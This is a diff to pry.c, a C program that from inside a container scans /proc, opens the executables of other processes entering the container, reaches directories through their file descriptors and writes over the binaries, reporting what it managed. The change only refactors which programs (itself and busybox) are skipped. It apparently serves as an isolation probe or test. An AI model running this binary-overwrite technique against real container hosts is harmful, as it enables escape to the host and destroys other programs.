@@ -1,6 +1,6 @@
 /* pry.c - pry: from inside a container, gets hold of the program of whoever comes by and writes
  * into it. Says once of each what it could do: "denied", "opened NAME", "readonly NAME", "overwrote
- * NAME", "reached NAME" (a directory by one of its fds). Its own program and init's are none. */
+ * NAME", "reached NAME" (a directory by one of its fds). Its own program and busybox are none. */
 #define _GNU_SOURCE
 #include <ctype.h>
 #include <dirent.h>
@@ -72,6 +72,11 @@ static void reach(const char *pid)
 	closedir(d);
 }
 
+static int same(const struct stat *a, const struct stat *b)
+{
+	return a->st_ino == b->st_ino && a->st_dev == b->st_dev;
+}
+
 static void pry(const char *pid, const struct stat *own)
 {
 	char path[300], name[256];
@@ -85,8 +90,7 @@ static void pry(const char *pid, const struct stat *own)
 		return;
 	}
 	name[n > 0 ? n : 0] = 0;
-	if (fstat(fd, &st) == 0 && (st.st_ino != own->st_ino || st.st_dev != own->st_dev) &&
-	    strcmp(name, "/bin/busybox")) {
+	if (fstat(fd, &st) == 0 && !same(&st, &own[0]) && !same(&st, &own[1])) {
 		say("opened", name);
 		reach(pid);
 		overwrite(fd, name);
@@ -96,8 +100,8 @@ static void pry(const char *pid, const struct stat *own)
 
 int main(void)
 {
-	struct stat own;
-	if (stat("/proc/self/exe", &own) < 0)
+	struct stat own[2]; /* what comes by without any harm: we, and the container's programs */
+	if (stat("/proc/self/exe", &own[0]) < 0 || stat("/bin/busybox", &own[1]) < 0)
 		return 1;
 	for (;;) {
 		DIR *d = opendir("/proc");
@@ -105,7 +109,7 @@ int main(void)
 			return 1;
 		for (struct dirent *e; (e = readdir(d));)
 			if (isdigit((unsigned char)*e->d_name) && strcmp(e->d_name, "1"))
-				pry(e->d_name, &own);
+				pry(e->d_name, own);
 		closedir(d);
 	}
 }
